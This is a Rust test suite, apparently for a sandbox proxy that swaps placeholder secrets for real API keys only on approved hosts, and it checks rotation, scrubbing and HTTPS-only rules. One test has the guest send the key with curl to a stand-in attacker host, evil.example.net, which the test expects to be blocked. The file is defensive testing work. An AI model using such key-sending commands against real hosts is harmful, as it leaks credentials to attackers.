//! The guest holds placeholders, the server receives secrets, nobody else does.

use std::collections::BTreeMap;

use matchlock_testkit::PATIENCE;
use serde_json::json;

use crate::lab::{API, EVIL, NetLab};

cases![
    the_server_receives_the_secret_that_the_guest_never_had,
    a_placeholder_for_another_host_is_stopped_and_told,
    headers_queries_and_basic_credentials_are_filled_in,
    no_value_can_break_out_of_its_place,
    bodies_are_filled_in_where_that_is_asked_for,
    a_secret_for_https_is_not_sent_in_clear,
    answers_are_scrubbed_where_that_is_asked_for,
    placeholders_and_values_come_from_where_the_user_says,
    a_secret_of_a_running_sandbox_is_rotated_added_and_removed,
];

pub(crate) const SECRET: &str = "sk-live-5f2c81d09a";

fn the_server_receives_the_secret_that_the_guest_never_had() {
    let lab = NetLab::new();
    let secret = format!("API_KEY={SECRET}@{API}");
    let log = lab.path("run.log");
    let log_file = log.to_str().expect("text");
    let out = lab.out(
        &["--secret", &secret, "--log-level", "debug", "--log-file", log_file],
        &format!(
            "echo \"$API_KEY\"; env; curl -sS -H \"Authorization: Bearer $API_KEY\" https://{API}/status/200"
        ),
    );
    assert!(out.starts_with("SANDBOX_SECRET_"), "{out}");
    assert!(!out.contains(SECRET), "{out}");
    let received = lab.origin.last();
    assert_eq!(received.header("authorization"), Some(&*format!("Bearer {SECRET}")));
    let requests = lab.events("request");
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0]["secrets"][0], "API_KEY");
    let trail = std::fs::read_to_string(lab.path("audit.jsonl")).expect("read");
    assert!(!trail.contains(SECRET), "{trail}");
    let logged = std::fs::read_to_string(log).expect("read");
    assert!(logged.contains("connected"), "{logged}");
    assert!(!logged.contains(SECRET), "{logged}");
}

fn a_placeholder_for_another_host_is_stopped_and_told() {
    let lab = NetLab::new();
    let secret = format!("API_KEY={SECRET}@{API}");
    let script = format!(
        "curl -sS -o /dev/stderr -w '%{{http_code}}' -H \"X-Key: $API_KEY\" https://{EVIL}/"
    );
    let out = lab.out(&["--secret", &secret, "--allow-host", EVIL], &script);
    assert_eq!(out, "403");
    assert_eq!(lab.origin.requests().len(), 0, "nothing arrived");
    let refused = &lab.events("request")[0];
    assert_eq!(refused["decision"], "denied", "{refused}");
}

/// What many programs need.
pub(crate) const SENDING: &str = r"
import base64, gzip, zlib
key = os.environ['KEY']
basic = lambda text: 'Authorization: Basic ' + base64.b64encode(text.encode()).decode()
encoded = ''.join(f'%{ord(c):02x}' for c in key)
API, EVIL = 'https://api.example.com', 'https://evil.example.net'
";

fn headers_queries_and_basic_credentials_are_filled_in() {
    let lab = NetLab::new();
    let secret = format!("KEY={SECRET}@{API}");
    let program = format!(
        "{SENDING}{}",
        r"
for name, arguments in {
    'bearer': ['-H', f'Authorization: Bearer {key}', API + '/bearer'],
    'any header': ['-H', f'X-Odd: a{key}b{key}', API + '/header'],
    'cookie': ['-b', f'session={key}', API + '/cookie'],
    'query': [f'{API}/query?a=1&key={key}&b=2'],
    'percent': [f'{API}/percent?key={encoded}'],
    'basic': ['-u', f'user:{key}', API + '/basic'],
    'basic user': ['-u', f'{key}:', API + '/basic-user'],
    'unpadded': ['-H', basic(f'us:{key}').rstrip('='), API + '/unpadded'],
    'path': [f'{API}/path/{key}'],
    'plain': ['-H', f'X-Odd: {key}', 'http://api.example.com/plain'],
    'lower': ['-H', f'X-Odd: {key.lower()}', API + '/lower'],
    'other': ['-H', f'X-Odd: {key[:-1]}', API + '/cut'],
}.items():
    seen[name] = status(arguments[-1], *arguments[:-1])
seen['key'] = key
"
    );
    let seen = lab.python(&["--secret", &secret], &program, &[]);
    let key = seen["key"].as_str().expect("text");
    let requests = lab.origin.requests();
    let by_path = |path: &str| {
        let found = requests.iter().find(|request| request.target.starts_with(path));
        found.unwrap_or_else(|| panic!("{path} in {seen}"))
    };
    let header = |path: &str, name: &str| by_path(path).header(name).expect(path).to_owned();
    assert_eq!(header("/bearer", "authorization"), format!("Bearer {SECRET}"));
    assert_eq!(header("/header", "x-odd"), format!("a{SECRET}b{SECRET}"));
    assert_eq!(header("/cookie", "cookie"), format!("session={SECRET}"));
    assert_eq!(by_path("/query").target, format!("/query?a=1&key={SECRET}&b=2"));
    assert_eq!(by_path("/percent").target, format!("/percent?key={SECRET}"));
    assert_eq!(header("/basic", "authorization"), "Basic dXNlcjpzay1saXZlLTVmMmM4MWQwOWE=");
    assert_eq!(header("/basic-user", "authorization"), "Basic c2stbGl2ZS01ZjJjODFkMDlhOg==");
    assert_eq!(
        header("/unpadded", "authorization").trim_end_matches('='),
        "Basic dXM6c2stbGl2ZS01ZjJjODFkMDlh"
    );
    assert_eq!(by_path("/path").target, format!("/path/{key}"), "paths are logged by servers");
    assert_eq!(header("/plain", "x-odd"), SECRET, "unless it is for https only");
    assert_eq!(header("/lower", "x-odd"), key.to_lowercase());
    assert_eq!(header("/cut", "x-odd"), key[..key.len() - 1]);
    assert_eq!(requests.len(), 12);
    let used = lab.events("request");
    assert_eq!(used.iter().filter(|request| request["secrets"] == json!(["KEY"])).count(), 9);
    assert!(used.iter().all(|request| !request["path"].to_string().contains(SECRET)));
}

fn no_value_can_break_out_of_its_place() {
    const ODD: &str = "a b&c=d#e%f+g\"h\u{e9}";
    let lab = NetLab::new();
    let program = format!(
        "{SENDING}{}",
        r"
seen['raw'] = status(f'{API}/raw?key={key}')
seen['percent'] = status(f'{API}/percent?key={encoded}&b=2')
seen['header'] = status(API + '/header', '-H', f'X-Odd: {key}')
seen['basic'] = status(API + '/basic', '-u', f'user:{key}')
"
    );
    let secret = format!("KEY={ODD}@{API}");
    let seen = lab.python(&["--secret", &secret], &program, &[]);
    let requests = lab.origin.requests();
    let percent = "a%20b%26c%3Dd%23e%25f%2Bg%22h%C3%A9";
    for request in &requests {
        let head = String::from_utf8_lossy(&request.head);
        let first = head.lines().next().expect("a line");
        assert_eq!(first.split(' ').count(), 3, "{first}");
        assert!(!request.target.contains(['#', '"', ' ']), "{first}");
        if request.target.starts_with("/percent") {
            assert!(
                request.target.eq_ignore_ascii_case(&format!("/percent?key={percent}&b=2")),
                "{first}"
            );
        }
    }
    assert_eq!((&seen["percent"], &seen["basic"]), (&json!("200"), &json!("200")), "{seen}");
    assert!(requests.iter().any(|request| request.target == "/basic"));
}

fn bodies_are_filled_in_where_that_is_asked_for() {
    let program = format!(
        "{SENDING}{}",
        r"
with open('/tmp/large', 'w') as file:
    file.write('x' * 65530 + key + 'y' * 100000 + key)
for name, arguments in {
    'json': ['--json', json.dumps({'key': key, 'again': key}), API + '/json'],
    'form': ['-d', f'a=1&key={key}', API + '/form'],
    'chunked': ['-H', 'Transfer-Encoding: chunked', '-d', f'a=1&key={key}', API + '/chunk'],
    'large': ['-H', 'Expect:', '--data-binary', '@/tmp/large', API + '/large'],
    'none': ['-d', 'nothing', API + '/none'],
}.items():
    seen[name] = status(arguments[-1], *arguments[:-1])
seen['key'] = key
"
    );
    for body in [false, true] {
        let lab = NetLab::new();
        let secret = format!("KEY={SECRET}@{API}");
        let mut flags = vec!["--secret", &*secret];
        flags.extend(body.then_some(["--secret-body", "KEY"]).into_iter().flatten());
        let seen = lab.python(&flags, &program, &[]);
        let key = seen["key"].as_str().expect("text");
        let wanted = if body { SECRET } else { key };
        let requests: BTreeMap<_, _> =
            lab.origin.requests().into_iter().map(|r| (r.target.clone(), r)).collect();
        assert_eq!(requests.len(), 5, "{seen}");
        for (path, request) in &requests {
            let text = String::from_utf8_lossy(&request.body);
            let length = request.header("content-length").map(str::parse::<u64>);
            if let Some(length) = length {
                assert_eq!(length, Ok(request.body_length), "{path}");
            }
            match &**path {
                "/json" => {
                    assert_eq!(text, format!("{{\"key\": \"{wanted}\", \"again\": \"{wanted}\"}}"));
                }
                "/form" | "/chunk" => assert_eq!(text, format!("a=1&key={wanted}")),
                "/none" => assert_eq!(text, "nothing"),
                _ => assert_eq!(request.body_length, 165_530 + 2 * wanted.len() as u64),
            }
        }
    }
}

fn a_secret_for_https_is_not_sent_in_clear() {
    let lab = NetLab::new();
    let program = format!(
        "{SENDING}{}",
        r"
seen['clear'] = status('http://api.example.com/x', '-H', f'X-Odd: {key}')
seen['basic'] = status('http://api.example.com/x', '-u', f'user:{key}')
seen['query'] = status(f'http://api.example.com/x?{key}')
seen['tls'] = status(API + '/tls', '-H', f'X-Odd: {key}')
seen['without'] = status('http://api.example.com/without')
"
    );
    let secret = format!("KEY={SECRET}@{API}");
    let seen = lab.python(&["--secret", &secret, "--secret-https-only", "KEY"], &program, &[]);
    let stopped = json!("403");
    assert_eq!((&seen["clear"], &seen["basic"], &seen["query"]), (&stopped, &stopped, &stopped));
    assert_eq!((&seen["tls"], &seen["without"]), (&json!("200"), &json!("200")));
    let requests = lab.origin.requests();
    let paths: Vec<_> = requests.iter().map(|request| &*request.target).collect();
    assert_eq!(paths, ["/tls", "/without"]);
    assert_eq!(requests[0].header("x-odd"), Some(SECRET));
}

fn answers_are_scrubbed_where_that_is_asked_for() {
    let program = format!(
        "{SENDING}{}",
        r"
for path in ('/echo', '/gzip', '/deflate', '/br', '/zstd'):
    for name, arguments in {'header': ['-H', f'X-Odd: {key}'], 'basic': ['-u', f'u:{key}'],
                            'body': ['-d', f'a={key}']}.items():
        code, text = curl('--http1.1', *arguments, '-H', 'Accept-Encoding: gzip, br, zstd, deflate', '-o', '/tmp/answer',
                          '-D', '/tmp/head', '-w', '%{http_code}', API + path)
        with open('/tmp/answer', 'rb') as file:
            raw = file.read()
        with open('/tmp/head', 'rb') as file:
            head = file.read().lower()
        if b'content-encoding: gzip' in head:
            raw += gzip.decompress(raw)
        elif b'content-encoding: deflate' in head:
            raw += zlib.decompress(raw)
        seen[f'{path} {name}'] = [code, text, raw.decode('latin-1')]
code, text = curl('--http1.1', '-d', key * 1000, API + '/reflect')
seen['reflect'] = [code, '200', text]
seen['key'] = key
"
    );
    for scrub in [true, false] {
        let lab = NetLab::new();
        let secret = format!("KEY={SECRET}@{API}");
        let mut flags = vec!["--secret", &*secret, "--secret-body", "KEY"];
        flags.extend(scrub.then_some(["--secret-scrub", "KEY"]).into_iter().flatten());
        let seen = lab.python(&flags, &program, &[]);
        let (mut plain, mut found) = (0, 0);
        for (case, got) in seen.as_object().expect("an object") {
            let Some(text) = got[2].as_str() else { continue };
            let basic = "dTpzay1saXZlLTVmMmM4MWQwOWE";
            found += usize::from(text.contains(SECRET) || text.contains(basic));
            plain += 1;
            if scrub {
                assert!(!text.contains(SECRET) && !text.contains(basic), "{case}: {text}");
                assert_eq!((&got[0], &got[1]), (&json!(0), &json!("200")), "{case}");
            }
        }
        assert_eq!(plain, 16);
        // Unless it is asked for, what a server sends back is what the guest gets.
        assert_eq!(found > 6, !scrub, "{seen}");
        assert_eq!(lab.origin.requests().len(), 16);
    }
}

fn placeholders_and_values_come_from_where_the_user_says() {
    let lab = NetLab::new();
    let file = lab.path("secrets.json");
    let text = json!({
        "FILED": {"value": "from,the;file@x", "placeholder": "sk-ant-placeholder-0001", "hosts": [API]},
        "SHUT": {"value": "only-over-tls", "hosts": [API], "https_only": true},
    });
    std::fs::write(&file, text.to_string()).expect("written");
    let file = file.display().to_string();
    let given = format!("GIVEN=va,l=u@e@{API},other.example.org");
    let inherited = format!("INHERITED@{API}");
    let flags = [
        "--secret-file",
        &file,
        "--secret",
        &given,
        "--secret",
        &inherited,
        "--secret-placeholder",
        "GIVEN=ghp_0123456789abcdefghij",
    ];
    let script = format!(
        "echo $FILED $GIVEN $INHERITED; curl -sS --http1.1 -o /dev/null -H \"A: $FILED\" -H \"B: $GIVEN\" \
         -H \"C: $INHERITED\" https://{API}/; curl -sS --http1.1 -o /dev/null -w '%{{http_code}}' -H \"D: $SHUT\" http://{API}/"
    );
    let invocation = lab.sh(&flags, &script).env("INHERITED", "from-the-environment");
    let out = invocation.finish().expect(0).out();
    let line = out.lines().next().expect("a line");
    assert!(
        line.starts_with("sk-ant-placeholder-0001 ghp_0123456789abcdefghij SANDBOX_SECRET_"),
        "{out}"
    );
    assert!(out.ends_with("403"), "{out}");
    let requests = lab.origin.requests();
    assert_eq!(requests.len(), 1);
    let header = |name| requests[0].header(name);
    assert_eq!(header("a"), Some("from,the;file@x"));
    assert_eq!(header("b"), Some("va,l=u@e"));
    assert_eq!(header("c"), Some("from-the-environment"));
}

/// Sends a key to a server for each line of its input.
const ASKING: &str = "while read -r key; do
    curl -sS -o /dev/null -w '%{http_code}\\n' -H \"X-Key: $key\" https://api.example.com/
done";

fn a_secret_of_a_running_sandbox_is_rotated_added_and_removed() {
    const NEXT: &str = "sk-next-77a1c0ffee";
    const ADDED: &str = "sk-added-12ab34cd56";
    let lab = NetLab::new();
    let secret = format!("API_KEY={SECRET}@{API}");
    let log = lab.path("run.log");
    let flags = ["-i", "--secret", &secret, "--log-level", "debug", "--log-file"];
    let flags = [&flags[..], &[log.to_str().expect("text")]].concat();
    let script = format!("echo \"$API_KEY\"; {ASKING}");
    let mut running = lab.sh(&flags, &script).piped().spawn();
    let placeholder = running.line(PATIENCE);
    let listed = lab.lab().matchlock(&["list", "-q"]).finish().expect(0).out();
    let id = listed.trim().to_owned();
    // What the server gets for a key.
    let mut received = |key: &str| {
        let before = lab.origin.requests().len();
        running.write(format!("{key}\n").as_bytes());
        assert_eq!(running.line(PATIENCE), "200");
        assert_eq!(lab.origin.requests().len(), before + 1);
        lab.origin.last().header("x-key").expect("a key").to_owned()
    };
    assert_eq!(received(&placeholder), SECRET);

    let secret = |words: &[&str]| {
        let words: Vec<_> = ["secret"].iter().chain(words).copied().collect();
        lab.lab().matchlock(&words)
    };
    let set = secret(&["set", &id, "API_KEY"]).env("API_KEY", NEXT).finish().expect(0);
    assert_eq!(set.out(), format!("{placeholder}\n"), "the placeholder stays");
    assert_eq!(received(&placeholder), NEXT, "the next request, on the same connection or not");

    let new = format!("NEW@{API}");
    let set = secret(&["set", &id, &new, "-"]).piped();
    let added = set.finish_with(format!("{ADDED}\n").into_bytes()).expect(0).out();
    assert_eq!(received(added.trim()), ADDED);
    let listed = secret(&["ls", &id]).finish().expect(0).out();
    assert!(listed.contains(&placeholder) && listed.contains(added.trim()), "{listed}");

    secret(&["rm", &id, "API_KEY"]).finish().expect(0);
    assert_eq!(received(&placeholder), placeholder, "it stands for nothing any more");
    let gone = secret(&["rm", &id, "API_KEY"]).finish().expect(1);
    assert!(gone.err().contains("no secret API_KEY"), "{}", gone.err());
    let argument = format!("X={SECRET}@{API}");
    let refused = secret(&["set", &id, &argument]).finish().expect(1);
    assert!(!refused.err().contains(SECRET), "{}", refused.err());
    let hostless = secret(&["set", &id, "OTHER"]).env("OTHER", NEXT).finish().expect(1);
    assert!(hostless.err().contains("no hosts given"), "{}", hostless.err());

    running.close_input();
    let out = running.finish(PATIENCE).expect(0);
    let changes = lab.events("secret_changed");
    let shown: Vec<_> = changes.iter().map(|event| (&event["secret"], &event["change"])).collect();
    let (key, new) = (json!("API_KEY"), json!("NEW"));
    let (rotated, added, removed) = (json!("rotated"), json!("added"), json!("removed"));
    assert_eq!(shown, [(&key, &rotated), (&new, &added), (&key, &removed)]);
    let log = std::fs::read_to_string(log).expect("read");
    let trail = std::fs::read_to_string(lab.path("audit.jsonl")).expect("read");
    for text in [log, trail, out.out(), out.err(), listed] {
        for value in [SECRET, NEXT, ADDED] {
            assert!(!text.contains(value), "{text}");
        }
    }
}
